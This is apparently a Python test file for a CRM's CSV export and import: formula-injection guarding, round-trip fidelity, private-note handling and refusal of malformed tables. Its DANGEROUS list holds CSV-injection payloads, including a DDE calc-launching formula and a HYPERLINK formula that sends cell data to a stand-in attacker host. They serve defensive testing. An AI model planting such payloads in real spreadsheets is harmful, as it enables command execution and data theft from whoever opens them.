"""`crm export csv`: safe for spreadsheets, and nothing is lost on the way out and back."""

import csv
import io
import re
from contextlib import suppress
from datetime import UTC, datetime

import database_support
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm.actions.import_csv import import_csv
from crm.errors import BadValueError
from crm.exporters import csv_, csv_reader
from crm.exporters.csv_cells import guarded, item, joined, parted, plain, unguarded
from crm.models import ContactMethod, Position
from crm.models.words import ContactKind, Stage, Tier
from crm.store import contacts
from crm.store.engine import make_engine, writing

NOW = datetime(2026, 1, 5, 17, tzinfo=UTC)
FORMULA = re.compile("\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]|\r(?!\n)")

MARKS = "\\;[]*@: x1b9u202e'=+-@\t\r\n,;\"|\x1b\x9b\u202e\u2028\u00a0\x85\uff1d"
TEXTS = st.text(
    st.sampled_from(MARKS) | st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=30
)
NAMES = TEXTS.filter(str.strip)

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"here")',
    "+1 555 0100",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1",
    "x;=1",
    'x","=1',
    'x";"=1',
    "x\n=1",
    "x\r\n=1",
    "x\t=1",
    "a;\t '=1",
]


def cells(data):
    """The table as a spreadsheet reads it: its header, and each row by column."""
    text = data.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def imported(crm, tmp_path, data, *, name="people.csv", code=0):
    """Import bytes through the command line."""
    path = tmp_path / name
    path.write_bytes(data)
    return crm("import", str(path), "--format", "csv", "--json", code=code)


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_begins_like_a_formula(text):
    """However a program cuts the cell (comma, semicolon, tab, quote, line), no piece begins like a formula."""
    shown = guarded(text)
    assert not any(map(FORMULA.match, re.split('[,;|"\t\r\n]', shown)))
    assert not re.match("[\t\r\n]", shown)
    assert unguarded(shown) == text


@given(TEXTS)
def test_a_guarded_cell_is_harmless_and_comes_back(text):
    """Any text: no formula anywhere, no control character, and the same text again."""
    shown = guarded(text)
    assert not any(map(FORMULA.match, re.split('[,;|"\t\r\n]', shown)))
    assert not CONTROLS.search(shown)
    assert unguarded(shown) == text


@pytest.mark.parametrize(
    "text", ["Jane Roe", "it's", "O'Neil", "a=b", "3-4", "jane@example.org", "C:\\xerox", "\\", "x - y"]
)
def test_harmless_text_stands_as_it_is(text):
    """Only what is dangerous is changed."""
    assert guarded(text) == text


@given(st.lists(TEXTS, max_size=5))
def test_items_of_one_cell_come_back(texts):
    """Several texts in one cell are told apart again, whatever stands in them."""
    assert [plain(each) for each in parted(joined(map(item, texts)))] == texts


@st.composite
def people(draw):
    """A contact with everything that a contact can have."""
    days = st.none() | st.integers(1, 3650)
    instants = st.none() | st.integers(0, 1_900_000_000).map(lambda each: datetime.fromtimestamp(each, UTC))
    optional = st.none() | TEXTS
    least, most = sorted([draw(days) or 7, draw(days) or 9])
    has_cadence = draw(st.booleans())
    return {
        "name": draw(NAMES),
        "aliases": draw(st.lists(NAMES, max_size=3)),
        "kind": draw(st.sampled_from(list(ContactKind))).value,
        "tier": draw(st.sampled_from(list(Tier))).value,
        "stage": draw(st.sampled_from(list(Stage))).value,
        **{
            field: draw(optional)
            for field in ("context", "place", "how_to_reach", "status_text", "notes", "private_notes")
        },
        "birthday": draw(st.sampled_from([None, "1990-05-09", "--02-29", "1604-01-01"])),
        "cadence_min_days": least if has_cadence else None,
        "cadence_max_days": most if has_cadence else None,
        "last_contact_at": draw(instants),
        "archived_at": draw(instants),
        "external_ids": draw(st.dictionaries(TEXTS, TEXTS, max_size=2)),
        "tags": draw(st.lists(st.sampled_from(["Navy", "a;b", "=x", "[y]", "\\"]), unique=True)),
        "methods": draw(
            st.lists(
                st.tuples(
                    st.sampled_from(["email", "phone", "linkedin", "instagram", "x: y"]), TEXTS, optional, st.booleans()
                ),
                max_size=5,
            )
        ),
        "positions": draw(
            st.lists(
                st.tuples(st.sampled_from([None, "Acme; Co", "a @ b", "+ [past]"]), optional, st.booleans()).filter(
                    lambda each: each[0] or each[1]
                ),
                max_size=3,
            )
        ),
    }


def fill(session, everybody):
    """Put generated people into a database."""
    for told in everybody:
        parts = {"tags", "methods", "positions", "name"}
        made = contacts.add_contact(session, told["name"], **{key: told[key] for key in told if key not in parts})
        for name in told["tags"]:
            contacts.put_in_tag(session, made, contacts.tag_named(session, name))
        for kind, value, label, primary in told["methods"]:
            session.add(ContactMethod(contact_id=made.id, kind=kind, value=value, label=label, primary=primary))
        for employer, title, current in told["positions"]:
            number = contacts.organization_named(session, employer).id if employer else None
            session.add(Position(contact_id=made.id, organization_id=number, title=title, current=current))
        session.flush()


@pytest.fixture
def database(tmp_path, empty_database):
    """A function that gives a new empty database each time."""
    count = iter(range(10_000))

    def make():
        folder = tmp_path / str(next(count))
        folder.mkdir()
        return make_engine(database_support.copy(empty_database, folder))

    return make


@settings(max_examples=15)
@given(everybody=st.lists(people(), max_size=4))
def test_nothing_is_lost_on_the_way_out_and_back(database, everybody):
    """Export, import into an empty home, export: the same bytes, uids and instants included."""
    with writing(database(), now=NOW, name="fill") as session:
        fill(session, everybody)
        first, left_out = csv_.table(session, include_private=True)
        _data, hidden = csv_.table(session)
        again = import_csv(session, csv_reader.read(first)) if everybody else None
    assert (left_out, hidden) == (0, sum(each["private_notes"] is not None for each in everybody))
    if again is None:
        return
    assert (again.same, again.new, again.changed) == (len(everybody), 0, 0)
    with writing(database(), now=datetime(2027, 1, 1, tzinfo=UTC), name="import") as session:
        import_csv(session, csv_reader.read(first))
        second, _left_out = csv_.table(session, include_private=True)
    assert second == first


@pytest.fixture
def export(crm, tmp_path):
    """A function that adds somebody, and gives the bytes of `crm export csv`."""

    def run(*options):
        path = tmp_path / "exported.csv"
        crm("export", "csv", "-o", str(path), *options)
        return path.read_bytes()

    return run


def edited(data, change):
    """The table after somebody changed its rows in a spreadsheet."""
    header, rows = cells(data)
    change(rows)
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, header, delimiter=";", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def test_the_file_is_what_spreadsheets_want(crm, export):
    """UTF-8 with a byte order mark, CRLF, one row a contact; phone numbers keep their plus sign."""
    crm("contact", "add", "Zo\u00eb Vale", "--phone", "+1 555 0100", "--phone", "0044 20", "--title", "=CTO")
    data = export()
    assert data.startswith(b"\xef\xbb\xbfname,")
    assert data.count(b"\r\n") == data.count(b"\n") == 2
    _header, (row,) = cells(data)
    assert (row["name"], row["phones"], row["title"]) == ("Zo\u00eb Vale", "* +1 555 0100; 0044 20", "'=CTO")


def test_private_notes_stay_unless_asked_for(crm, export):
    """They are in neither file nor table without --include-private, and standard error counts them."""
    crm("contact", "add", "Ada Vale", "--private-note", "between us")
    said = crm("export", "csv")
    assert "between us" not in said.out
    assert "1 private note was left out; --include-private" in said.err
    assert b"between us" not in export()
    assert b"between us" in export("--include-private")


def test_an_empty_book_is_a_header(crm):
    """Nobody yet: the columns alone, and reading it back says that there is nobody."""
    out = crm("export", "csv").out
    assert out.splitlines() == ["\ufeffname," + out.split(",", 1)[1].strip()]
    with pytest.raises(BadValueError, match="no rows"):
        import_csv(None, csv_reader.read(out.encode()))


def test_import_takes_an_export_back(crm, export, tmp_path):
    """Recognised without --format; nothing changes, and undo has nothing to do."""
    crm("contact", "add", "Ada Vale", "--email", "ada@example.org", "--tag", "Navy")
    path = tmp_path / "people.csv"
    path.write_bytes(export())
    told = crm("import", str(path), "--json").json
    assert (told["new"], told["changed"], told["same"]) == (0, 0, 1)


def test_edits_in_a_spreadsheet_come_in_and_undo_takes_them_back(crm, export, tmp_path):
    """Changed, cleared and added cells, a new person, another separator: taken; the rest is left alone."""
    crm("contact", "add", "Ada Vale", "--email", "ada@example.org", "--note", "old", "--private-note", "hush")
    crm("contact", "add", "Ben Okoro-Lund", "--organization", "Acme", "--title", "CTO")
    before = crm("export", "json", "--include-private").json["contacts"]

    def change(rows):
        ada, ben = rows
        ada |= {"emails": "* ada@example.org [work]; ada@home.example", "notes": "", "tier": "inner", "tags": "Navy"}
        ben |= {"organization": "Newco", "other_positions": "CTO @ Acme [past]", "cadence": "4w..6w"}
        rows.append(dict.fromkeys(ada, "") | {"name": "Cy Marsh", "kind": "person", "tier": "none", "stage": "met"})

    told = imported(crm, tmp_path, edited(export(), change)).json
    assert (told["new"], told["changed"], told["same"]) == (1, 2, 0)
    ada, ben, cy = crm("export", "json", "--include-private").json["contacts"]
    assert [(each["value"], each["label"], each["primary"]) for each in ada["methods"]] == [
        ("ada@example.org", "work", True),
        ("ada@home.example", None, False),
    ]
    assert (ada["notes"], ada["tier"], ada["tags"], ada["private_notes"]) == (None, "inner", ["Navy"], "hush")
    assert (ben["organization"], ben["title"], len(ben["positions"])) == ("Newco", "CTO", 2)
    assert ben["cadence"] == {"min_days": 28, "max_days": 42}
    assert (cy["name"], cy["stage"]) == ("Cy Marsh", "met")
    crm("undo", "--yes")
    after = crm("export", "json", "--include-private").json["contacts"]
    drop = {"revision", "updated_at"}
    assert [{k: v for k, v in each.items() if k not in drop} for each in after] == [
        {k: v for k, v in each.items() if k not in drop} for each in before
    ]


def test_a_stale_table_overwrites_nothing(crm, export, tmp_path):
    """Whoever changed here after the export is kept as they are, and a remark says so."""
    crm("contact", "add", "Ada Vale", "--note", "old")
    data = export()
    crm("contact", "edit", "ada", "--note", "new", now="2026-01-06T17:00:00Z")
    result = imported(crm, tmp_path, data)
    assert result.json["kept"] == 1
    assert "newer here" in result.err
    assert crm("contact", "show", "ada", "--json").json["notes"] == "new"


def test_a_row_that_may_mean_somebody_here_is_refused(crm, export, tmp_path):
    """A name without uid that is taken already: exit 5, the uid to write is named, and nothing is written."""
    crm("contact", "add", "Ada Vale")
    data = edited(export(), lambda rows: rows[0].update(uid=""))
    refused = imported(crm, tmp_path, data, code=5)
    assert "uid" in refused.error["message"]


def test_two_rows_of_one_uid_are_refused(crm, export, tmp_path):
    """Whoever copied a row has to say whom they mean; both lines are named."""
    crm("contact", "add", "Ada Vale")
    refused = imported(crm, tmp_path, edited(export(), lambda rows: rows.append({**rows[0]})), code=5)
    assert "lines 2 and 3" in refused.error["message"]


def test_columns_that_are_not_there_say_nothing(crm, tmp_path):
    """A table of name, uid and one column changes that column alone; a tag named twice is one."""
    crm("contact", "add", "Ada Vale", "--email", "ada@example.org", "--note", "old", "--organization", "Acme")
    uid = crm("contact", "show", "ada", "--json").json["uid"]
    imported(crm, tmp_path, f"name,uid,tags\r\nAda Vale,{uid},Navy; navy; b\r\n".encode())
    ada = crm("contact", "show", "ada", "--json").json
    assert (ada["tags"], ada["notes"], ada["organization"], ada["tier"]) == (["Navy", "b"], "old", "Acme", "active")


def test_somebody_new_is_not_nagged_about(crm, tmp_path):
    """A table that says no tier: they come in as imported people do; a dry run writes nobody."""
    path = tmp_path / "new.csv"
    path.write_bytes(b"name,phones\r\nCy Marsh,'+1 555 0100 [work]\r\nCy Marsh,\r\n")
    told = crm("import", str(path), "--format", "csv", "--dry-run", "--json").json
    assert told["new"] == 2
    assert crm("contact", "list", "--json").json["items"] == []
    crm("import", str(path), "--format", "csv")
    one, other = crm("contact", "list", "--json").json["items"]
    assert (one["tier"], other["tier"]) == ("none", "none")
    assert one["methods"] == [{"kind": "phone", "value": "+1 555 0100", "label": "work", "primary": False}]


BAD = {
    "an unknown column": (lambda text: text.replace("name,", "nme,", 1), "line 1"),
    "a column twice": (lambda text: text.replace("aliases,", "tags,", 1), "line 1"),
    "a tier there is not": (lambda text: text.replace(",active,", ",best,"), "line 2, tier.*inner, active"),
    "a slashed birthday": (lambda text: text.replace("1990-05-09", "05/09/1990"), "line 2, birthday"),
    "a day that is none": (lambda text: text.replace("1990-05-09", "1990-02-30"), "line 2, birthday"),
    "an instant without zone": (lambda text: re.sub(r"(T17:00:00)Z", r"\1", text), "line 2, added_at"),
    "no name": (lambda text: text.replace("Ada Vale", " "), "line 2, name"),
    "a label never closed": (lambda text: text.replace("ada@example.org", "ada@example.org [work"), "line 2, emails"),
    "a cell too few": (lambda text: text.replace("active,", ""), "line 2 has 25 cells"),
    "cut off in the uid": (lambda text: text[:-9], "line 2, uid"),
    "cut off within quotes": (lambda text: text.replace("Ada Vale", '"Ada Vale'), "line 2"),
    "a NUL": (lambda text: text.replace("Ada Vale", "Ada\0Vale"), "line 2"),
    "another encoding": (lambda text: text.replace("Ada", "\udce4da"), "--encoding cp1252"),
}


@pytest.mark.parametrize("case", BAD)
def test_a_table_that_cannot_be_read_is_refused(crm, export, case):
    """The message names the line, and the column where there is one."""
    spoil, message = BAD[case]
    crm("contact", "add", "Ada Vale", "--email", "ada@example.org", "--birthday", "1990-05-09")
    spoilt = spoil(export().decode()).encode("utf-8", "surrogateescape")
    with pytest.raises(BadValueError, match=message):
        csv_reader.read(spoilt)


@given(data=st.binary(max_size=200), at=st.integers(0, 400))
def test_damage_is_never_a_crash(data, at):
    """Whatever bytes stand in a table, it is read or refused."""
    whole = ",".join(csv_.COLUMNS).encode() + b"\r\n" + b"Ada," * 25 + b"\r\n"
    with suppress(BadValueError):
        csv_reader.read(whole[:at] + data + whole[at:])


def test_windows_1252_is_read_when_one_says_so():
    """What Excel saves as plain CSV in Europe: semicolons and its own encoding."""
    (line,) = csv_reader.read("name;place\r\nZo\u00eb Vale;K\u00f6ln\r\n".encode("cp1252"), encoding="cp1252")
    assert line.cells == {"name": "Zo\u00eb Vale", "place": "K\u00f6ln"}


def test_a_calendar_of_everything(crm, tmp_path):
    """`crm export ics` writes the same bytes as the calendar command's file of everything."""
    crm("contact", "add", "Ada Vale")
    crm("schedule", "ada", "tomorrow", "14:30")
    crm("calendar", "export", str(tmp_path))
    assert crm("export", "ics").out.encode() == (tmp_path / "all.ics").read_bytes()


def test_export_says_where_a_folder_is_missing(crm, tmp_path):
    """A path in no folder is exit 3."""
    crm("export", "csv", "-o", str(tmp_path / "no" / "people.csv"), code=3)
